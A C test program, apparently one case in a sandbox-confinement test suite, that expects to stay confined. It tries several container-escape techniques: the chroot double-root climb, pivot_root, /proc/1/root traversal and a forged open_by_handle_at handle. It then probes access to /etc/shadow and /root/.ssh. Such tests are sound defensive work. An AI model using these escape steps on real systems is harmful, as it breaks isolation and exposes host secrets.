// crime: leaves its root: the classic second root, up and up, through descriptors, /proc and file handles
// row: escape
// allowed: AC RTE
// prints: done
// remains: it stays inside
// except trusted: there is no root to leave
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    struct stat root, now;
    stat("/", &root);
    int out = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("inner", 0700);
    if (chroot("inner") == 0) puts("CHANGED its root");
    if (syscall(SYS_pivot_root, ".", ".") == 0) puts("PIVOTED");
    if (fchdir(out) == 0)
        for (int i = 0; i < 100; i++)
            if (chdir("..")) break;
    if (stat(".", &now) == 0 && (now.st_ino != root.st_ino || now.st_dev != root.st_dev)) puts("CLIMBED out");
    const char *paths[] = {"/proc/1/root", "/proc/self/root/..", "/proc/1/cwd", "/proc/self/fd/0/..", "/../../..", "/proc/self/task/1/root"};
    for (int i = 0; i < 6; i++)
        if (stat(paths[i], &now) == 0 && S_ISDIR(now.st_mode) && (now.st_ino != root.st_ino || now.st_dev != root.st_dev)) printf("SAW %s\n", paths[i]);
    struct {
        struct file_handle handle;
        unsigned char bytes[128];
    } found = {.handle = {.handle_bytes = 128}};
    int mount;
    if (name_to_handle_at(AT_FDCWD, "/usr", &found.handle, &mount, 0) == 0) puts("NAMED a handle");
    found.handle.handle_bytes = 8;
    found.handle.handle_type = 1;
    found.bytes[0] = 2;
    if (open_by_handle_at(out, &found.handle, O_RDONLY) >= 0) puts("OPENED by handle");
    if (access("/etc/shadow", R_OK) == 0 || access("/root/.ssh", F_OK) == 0) puts("SAW the host's files");
    puts("done");
}
